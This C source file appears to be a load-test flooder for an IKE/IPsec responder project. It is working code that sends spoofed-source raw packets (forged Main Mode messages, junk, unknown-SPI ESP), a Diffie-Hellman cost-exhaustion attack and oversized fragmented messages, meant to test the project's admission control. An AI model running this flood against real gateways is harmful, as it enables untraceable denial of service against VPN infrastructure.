/* rampart-flood: the issue-12 flood sender. Raw IPv4 (IP_HDRINCL) with spoofed sources, paced to
 * a packet rate, a mix of:
 *   mm1   Main Mode first messages with random cookies (one valid proposal, NAT-T VIDs) to 500
 *   mm3   MM3-shaped messages with random cookie pairs and a garbage KE/nonce to 500
 *   j500  random bytes to 500          j4500  random bytes to 4500 (marker-less: "ESP")
 *   j1701 random bytes to 1701         esp    ESP (proto 50) with unknown SPIs, and in UDP/4500
 * Sources are drawn from --spoof NET/PLEN (a host route for it must lead back to this namespace,
 * or nowhere: answers are not read); --also ADDR:PCT sends that share from ADDR instead (the
 * address of a NAT legitimate clients are behind). Prints one line at the end:
 *   flood sent=N seconds=S rate_pps=R errors=E
 * --dh-rate R adds R first messages a second from our own (real) address proposing --dh-group
 * (MODP-4096 by default), and answers every MM2 with an MM3 whose KE makes the responder do the
 * whole DH (the review's "DH cost before proof"; admission control's DH budget is what stops it).
 * --padded N instead sends N first messages over an ordinary UDP socket (the kernel fragments them)
 * whose SA payload is padded by a junk second transform to PAD bytes (--pad, default 60000), as
 * the review did; for the memory figures.
 *
 *   rampart-flood --dst A.B.C.D [--rate PPS] [--seconds S] [--spoof NET/PLEN] [--mix mm1=50,...]
 *   rampart-flood --dst A.B.C.D --padded N [--pad BYTES] */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum kind { K_MM1, K_MM3, K_J500, K_J4500, K_J1701, K_ESP, K_N };
static const char *const kname[K_N] = {"mm1", "mm3", "j500", "j4500", "j1701", "esp"};

static volatile sig_atomic_t stop; /* SIGINT/SIGTERM: print the figures and end */
static void on_sig(int sig)
{
	(void)sig;
	stop = 1;
}

static uint64_t rs = 0x9e3779b97f4a7c15ull;
static uint64_t rnd(void)
{
	rs ^= rs << 13;
	rs ^= rs >> 7;
	rs ^= rs << 17;
	return rs;
}
static void rfill(uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		p[i] = (uint8_t)(rnd() >> 24);
}
static void put16(uint8_t *p, unsigned v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}
static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v & 0xffff);
}
static uint64_t now_ns(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000ull + (uint64_t)t.tv_nsec;
}

/* RFC 3947 NAT-T vendor ID (MD5 of "RFC 3947") */
static const uint8_t vid_rfc3947[16] = {0x4a, 0x13, 0x1c, 0x81, 0x07, 0x03, 0x58, 0x45,
                                        0x5c, 0x57, 0x28, 0xf2, 0x0e, 0x95, 0x45, 0x2f};

/* An MM1: header, SA (one proposal: AES-128/SHA1/PSK/group, 28800 s [, a junk transform of
 * pad bytes]), the NAT-T VID. Returns its length. */
static size_t build_mm1(uint8_t *b, size_t pad, uint16_t group)
{
	uint16_t attrs[][2] = {{1, 7}, {14, 128}, {2, 2}, {3, 1}, {4, group}, {11, 1}, {12, 28800}};
	uint8_t *p = b + 28;
	uint8_t *sa = p;
	p += 4;
	put32(p, 1);     /* DOI IPsec */
	put32(p + 4, 1); /* situation identity only */
	p += 8;
	uint8_t *prop = p;
	p += 8;
	uint8_t *tf = p;
	p += 8;
	for (size_t i = 0; i < 7; i++, p += 4) {
		put16(p, 0x8000 | attrs[i][0]);
		put16(p + 2, attrs[i][1]);
	}
	tf[0] = pad ? 3 : 0;
	put16(tf + 2, (unsigned)(p - tf));
	tf[4] = 1; /* transform 1 */
	tf[5] = 1; /* KEY_IKE */
	if (pad) { /* a second transform whose one attribute is pad bytes of junk (TLV, type 16383) */
		uint8_t *t2 = p;
		p += 8;
		put16(p, 16383);
		put16(p + 2, (unsigned)pad);
		memset(p + 4, 0x41, pad);
		p += 4 + pad;
		t2[0] = 0;
		put16(t2 + 2, (unsigned)(p - t2));
		t2[4] = 2;
		t2[5] = 1;
	}
	prop[0] = 0;
	put16(prop + 2, (unsigned)(p - prop));
	prop[4] = 1; /* proposal 1 */
	prop[5] = 1; /* PROTO_ISAKMP */
	prop[6] = 0; /* SPI size */
	prop[7] = pad ? 2 : 1;
	sa[0] = 13; /* next: VID */
	put16(sa + 2, (unsigned)(p - sa));
	p[0] = 0;
	put16(p + 2, 4 + 16);
	memcpy(p + 4, vid_rfc3947, 16);
	p += 20;
	/* header */
	rfill(b, 8);         /* initiator cookie */
	memset(b + 8, 0, 8); /* responder cookie */
	b[16] = 1;           /* next: SA */
	b[17] = 0x10;        /* version 1.0 */
	b[18] = 2;           /* identity protection */
	b[19] = 0;
	put32(b + 20, 0);
	put32(b + 24, (uint32_t)(p - b));
	return (size_t)(p - b);
}

/* An MM3 shape with random cookies: KE (32..512 garbage), nonce. */
static size_t build_mm3(uint8_t *b)
{
	size_t kel = 64 + (rnd() % 3) * 192; /* ECP-256, MODP-1024-ish, 448 */
	uint8_t *p = b + 28;
	p[0] = 10; /* next: nonce */
	put16(p + 2, (unsigned)(4 + kel));
	rfill(p + 4, kel);
	p += 4 + kel;
	p[0] = 0;
	put16(p + 2, 4 + 32);
	rfill(p + 4, 32);
	p += 36;
	rfill(b, 16);
	b[16] = 4; /* KE */
	b[17] = 0x10;
	b[18] = 2;
	b[19] = 0;
	put32(b + 20, 0);
	put32(b + 24, (uint32_t)(p - b));
	return (size_t)(p - b);
}

/* A real-looking MM3 for cookies we were given (MM2 came back): KE of kel random bytes (a MODP
 * value below the prime with near certainty: the responder does the whole DH), a nonce. */
static size_t build_mm3_for(uint8_t *b, const uint8_t *ck, size_t kel)
{
	uint8_t *p = b + 28;
	p[0] = 10; /* next: nonce */
	put16(p + 2, (unsigned)(4 + kel));
	rfill(p + 4, kel);
	p[4] = 0x7f; /* below every MODP prime (they start with 64 one bits) */
	p += 4 + kel;
	p[0] = 0;
	put16(p + 2, 4 + 32);
	rfill(p + 4, 32);
	p += 36;
	memcpy(b, ck, 16);
	b[16] = 4; /* KE */
	b[17] = 0x10;
	b[18] = 2;
	b[19] = 0;
	put32(b + 20, 0);
	put32(b + 24, (uint32_t)(p - b));
	return (size_t)(p - b);
}

static uint16_t ipsum(const uint8_t *h)
{
	uint32_t s = 0;
	for (int i = 0; i < 20; i += 2)
		s += (uint32_t)(h[i] << 8 | h[i + 1]);
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

/* IPv4 header (+ UDP header when dport) in front of the payload already at pkt+28 (UDP) or
 * pkt+20 (ESP); returns the datagram length. UDP checksum 0: allowed over IPv4 (RFC 768). */
static size_t wrap(uint8_t *pkt, uint32_t src, uint32_t dst, int proto, uint16_t sport, uint16_t dport,
                   size_t plen)
{
	size_t l4 = proto == 17 ? 8 + plen : plen, tot = 20 + l4;
	memset(pkt, 0, 20);
	pkt[0] = 0x45;
	put16(pkt + 2, (unsigned)tot);
	put16(pkt + 4, (unsigned)(rnd() & 0xffff));
	pkt[6] = 0x40; /* DF */
	pkt[8] = 64;
	pkt[9] = (uint8_t)proto;
	put32(pkt + 12, src);
	put32(pkt + 16, dst);
	put16(pkt + 10, ipsum(pkt));
	if (proto == 17) {
		put16(pkt + 20, sport);
		put16(pkt + 22, dport);
		put16(pkt + 24, (unsigned)l4);
		put16(pkt + 26, 0);
	}
	return tot;
}

static int usage(void)
{
	fprintf(stderr, "usage: rampart-flood --dst A.B.C.D [--rate PPS] [--seconds S] [--spoof NET/PLEN] "
	                "[--also A.B.C.D:PCT] [--mix mm1=50,mm3=20,j500=5,j4500=10,j1701=5,esp=10]\n"
	                "       [--dh-rate R [--dh-group 14|15|16]]\n"
	                "       rampart-flood --dst A.B.C.D --padded N [--pad BYTES] [--interval-us U]\n");
	return 2;
}

int main(int argc, char **argv)
{
	struct in_addr dst = {0}, net = {0};
	unsigned rate = 10000, plen = 17, padded = 0, pad = 60000, ivl_us = 0;
	double seconds = 10;
	unsigned w[K_N] = {50, 20, 5, 10, 5, 10};
	struct in_addr also = {0};
	unsigned also_pct = 0, dh_rate = 0, dh_group = 16;
	inet_pton(AF_INET, "198.19.128.0", &net);
	for (int i = 1; i < argc; i++) {
		const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
		if (!v)
			return usage();
		i++;
		if (!strcmp(a, "--dst")) {
			if (inet_pton(AF_INET, v, &dst) != 1)
				return usage();
		} else if (!strcmp(a, "--rate"))
			rate = (unsigned)strtoul(v, NULL, 10);
		else if (!strcmp(a, "--seconds"))
			seconds = strtod(v, NULL);
		else if (!strcmp(a, "--padded"))
			padded = (unsigned)strtoul(v, NULL, 10);
		else if (!strcmp(a, "--pad"))
			pad = (unsigned)strtoul(v, NULL, 10);
		else if (!strcmp(a, "--also")) { /* ADDR:PCT: that share of packets from ADDR (a NAT's) */
			char b[64];
			snprintf(b, sizeof b, "%s", v);
			char *c = strchr(b, ':');
			if (!c)
				return usage();
			*c = 0;
			also_pct = (unsigned)atoi(c + 1);
			if (inet_pton(AF_INET, b, &also) != 1 || also_pct > 100)
				return usage();
		} else if (!strcmp(a, "--dh-rate"))
			dh_rate = (unsigned)strtoul(v, NULL, 10);
		else if (!strcmp(a, "--dh-group"))
			dh_group = (unsigned)strtoul(v, NULL, 10);
		else if (!strcmp(a, "--interval-us"))
			ivl_us = (unsigned)strtoul(v, NULL, 10);
		else if (!strcmp(a, "--spoof")) {
			char b[64];
			snprintf(b, sizeof b, "%s", v);
			char *sl = strchr(b, '/');
			if (!sl)
				return usage();
			*sl = 0;
			plen = (unsigned)atoi(sl + 1);
			if (inet_pton(AF_INET, b, &net) != 1 || plen < 8 || plen > 32)
				return usage();
		} else if (!strcmp(a, "--mix")) {
			char b[256];
			snprintf(b, sizeof b, "%s", v);
			memset(w, 0, sizeof w);
			for (char *s = NULL, *t = strtok_r(b, ",", &s); t; t = strtok_r(NULL, ",", &s)) {
				char *eq = strchr(t, '=');
				int k;
				if (!eq)
					return usage();
				*eq = 0;
				for (k = 0; k < K_N && strcmp(kname[k], t); k++)
					;
				if (k == K_N)
					return usage();
				w[k] = (unsigned)atoi(eq + 1);
			}
		} else
			return usage();
	}
	if (!dst.s_addr || !rate)
		return usage();
	rs ^= (uint64_t)now_ns() * 0x2545f4914f6cdd1dull;
	static uint8_t pkt[70000];

	if (padded) { /* ordinary UDP from our own address: the kernel fragments */
		int fd = socket(AF_INET, SOCK_DGRAM, 0);
		struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(500), .sin_addr = dst};
		unsigned sent = 0;
		int rcv = 1 << 20;
		setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &rcv, sizeof rcv);
		for (unsigned i = 0; i < padded; i++) {
			size_t l = build_mm1(pkt, pad, 19);
			if (sendto(fd, pkt, l, 0, (struct sockaddr *)&sa, sizeof sa) == (ssize_t)l)
				sent++;
			if (ivl_us)
				usleep(ivl_us);
		}
		printf("flood padded sent=%u bytes_each=%zu\n", sent, build_mm1(pkt, pad, 19));
		return sent ? 0 : 1;
	}

	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* IP_HDRINCL implied */
	if (fd < 0) {
		perror("rampart-flood: raw socket (root needed)");
		return 1;
	}
	int sb = 4 << 20;
	setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sb, sizeof sb);
	unsigned wsum = 0;
	for (int k = 0; k < K_N; k++)
		wsum += w[k];
	if (!wsum)
		return usage();
	uint32_t d = ntohl(dst.s_addr), nbase = ntohl(net.s_addr), span = plen >= 32 ? 1 : 1u << (32 - plen);
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
	uint64_t t0 = now_ns(), end = t0 + (uint64_t)(seconds * 1e9), sent = 0, errors = 0;
	uint64_t per = 1000000000ull / rate;
	uint64_t next = t0;
	/* the DH flood: first messages from our own address, and an MM3 for every MM2 that comes back */
	int dfd = -1;
	uint64_t dh_per = 0, dh_next = t0, dh_mm1 = 0, dh_mm3 = 0;
	size_t kel = dh_group == 14 ? 256 : dh_group == 15 ? 384 : 512;
	struct sockaddr_in d500 = {.sin_family = AF_INET, .sin_port = htons(500), .sin_addr = dst};
	if (dh_rate) {
		dfd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
		dh_per = 1000000000ull / dh_rate;
	}
	static uint8_t dpkt[2048];
	struct sigaction sa = {.sa_handler = on_sig};
	sigaction(SIGINT, &sa, NULL);
	sigaction(SIGTERM, &sa, NULL);
	while (!stop) {
		uint64_t t = now_ns();
		if (t >= end)
			break;
		if (dfd >= 0) {
			ssize_t r;
			while ((r = recv(dfd, dpkt, sizeof dpkt, 0)) >= 28)
				if (dpkt[18] == 2 && dpkt[16] == 1) { /* MM2 (SA first): answer with MM3 */
					uint8_t ck[16];
					memcpy(ck, dpkt, 16);
					size_t l3 = build_mm3_for(dpkt, ck, kel);
					if (sendto(dfd, dpkt, l3, 0, (struct sockaddr *)&d500, sizeof d500) >
					    0)
						dh_mm3++;
				}
			if (t >= dh_next) {
				size_t l1 = build_mm1(dpkt, 0, (uint16_t)dh_group);
				if (sendto(dfd, dpkt, l1, 0, (struct sockaddr *)&d500, sizeof d500) > 0)
					dh_mm1++;
				dh_next += dh_per;
				if (t - dh_next > 50000000ull && t > dh_next)
					dh_next = t;
			}
		}
		if (t < next) {
			uint64_t gap = next - t;
			if (gap > 200000) {
				struct timespec ts = {0, (long)(gap - 100000)};
				nanosleep(&ts, NULL);
			}
			continue;
		}
		/* catch up in bursts, never more than 50 ms behind */
		if (t - next > 50000000ull)
			next = t - 50000000ull;
		unsigned r = (unsigned)(rnd() % wsum), k = 0;
		while (r >= w[k])
			r -= w[k++];
		uint32_t src = (nbase & ~(span - 1)) | (uint32_t)(rnd() % span);
		if (also_pct && rnd() % 100 < also_pct)
			src = ntohl(also.s_addr);
		uint16_t sport = (uint16_t)(1024 + rnd() % 60000);
		size_t l = 0, n;
		switch (k) {
		case K_MM1:
			n = build_mm1(pkt + 28, 0, 19);
			l = wrap(pkt, src, d, 17, rnd() & 1 ? 500 : sport, 500, n);
			break;
		case K_MM3:
			n = build_mm3(pkt + 28);
			l = wrap(pkt, src, d, 17, sport, 500, n);
			break;
		case K_J500:
		case K_J1701:
			n = 16 + rnd() % 300;
			rfill(pkt + 28, n);
			l = wrap(pkt, src, d, 17, sport, k == K_J500 ? 500 : 1701, n);
			break;
		case K_J4500:
			n = 16 + rnd() % 300;
			rfill(pkt + 28, n);
			if (rnd() & 1)
				memset(pkt + 28, 0, 4); /* non-ESP marker: garbage "IKE" */
			l = wrap(pkt, src, d, 17, sport, 4500, n);
			break;
		case K_ESP:
			n = 8 + 16 + 16 + rnd() % 200; /* SPI, seq, IV, body */
			rfill(pkt + 28, n);
			if (rnd() & 1)
				l = wrap(pkt, src, d, 17, sport, 4500, n); /* ESP-in-UDP, unknown SPI */
			else {
				memmove(pkt + 20, pkt + 28, n);
				l = wrap(pkt, src, d, 50, 0, 0, n);
			}
			break;
		}
		if (sendto(fd, pkt, l, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)l)
			sent++;
		else
			errors++;
		next += per;
	}
	double el = (double)(now_ns() - t0) / 1e9;
	printf("flood sent=%llu seconds=%.1f rate_pps=%.0f errors=%llu dh_mm1=%llu dh_mm3=%llu\n",
	       (unsigned long long)sent, el, el > 0 ? (double)sent / el : 0, (unsigned long long)errors,
	       (unsigned long long)dh_mm1, (unsigned long long)dh_mm3);
	return 0;
}
